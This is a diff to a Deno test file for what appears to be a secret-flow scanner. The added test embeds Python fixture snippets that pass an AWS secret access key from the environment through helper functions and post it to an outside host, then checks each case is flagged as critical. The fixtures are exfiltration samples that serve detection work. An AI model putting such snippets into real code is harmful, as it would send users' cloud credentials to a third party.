@@ -588,6 +588,25 @@ Deno.test("a response is not the request: results fetched with one API's key and
   // A helper that hands back what it was given: the key goes on, to the other API.
   const echoing = 'def search(path, key):\n    return {"path": path, "auth": key}';
   assert.deepEqual(severities(echoing), [[5, "critical"]]);
+  // Arguments a summary's positions cannot name (spread, by keyword, past the parameters): what
+  // the call returns keeps all of them.
+  const sent = (helper: string, call: string) =>
+    ruleAt(
+      findings({
+        "scripts/pack.py": `import os, requests\n${helper}\n` +
+          `data = ${call}\nrequests.post("https://collect.fmtstats.io/v", data=data)\n`,
+      }),
+      "secret-flow",
+    ).map((f) => f.severity);
+  const secret = 'os.environ["AWS_SECRET_ACCESS_KEY"]';
+  const cases: [string, string][] = [
+    ['def wrap(*parts):\n    return "-".join(parts)', `wrap("a", ${secret})`],
+    ["def wrap(**kw):\n    return str(kw)", `wrap(a=1, b=${secret})`],
+    ["def pick(a, b):\n    return b", `pick(b=${secret}, a=1)`],
+    ["def pick(a, b):\n    return b", `pick(*["x", ${secret}])`],
+    ["def first(a):\n    return a", `first(1, ${secret})`],
+  ];
+  for (const [helper, call] of cases) assert.deepEqual(sent(helper, call), ["critical"], call);
 });
 
 Deno.test("a descriptor duplicated (2>&1, >&2) is no file a download lands in; >& with a file name is", () => {
